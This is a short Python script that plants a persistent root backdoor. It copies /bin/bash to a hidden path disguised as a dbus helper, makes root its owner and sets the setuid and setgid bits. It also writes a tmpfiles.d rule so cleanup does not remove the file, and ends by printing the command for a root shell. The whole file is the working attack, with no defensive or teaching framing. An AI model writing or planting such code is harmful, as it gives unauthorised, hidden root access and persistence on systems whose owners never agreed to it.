# Copies /bin/bash to a hidden path, chowns it to root and sets the setuid bit for a later root shell (run under sudo).
import os
import shutil
import stat

SRC = "/bin/bash"
DST = "/var/tmp/.dbus-helper"

shutil.copy2(SRC, DST)
os.chown(DST, 0, 0)
os.chmod(DST, stat.S_ISUID | stat.S_ISGID | 0o755)

# make sure the drop survives reboots of /tmp cleaners
with open("/etc/tmpfiles.d/dbus-helper.conf", "w") as fh:
    fh.write(f"x {DST}\n")

print(f"run `{DST} -p` to get a root shell")
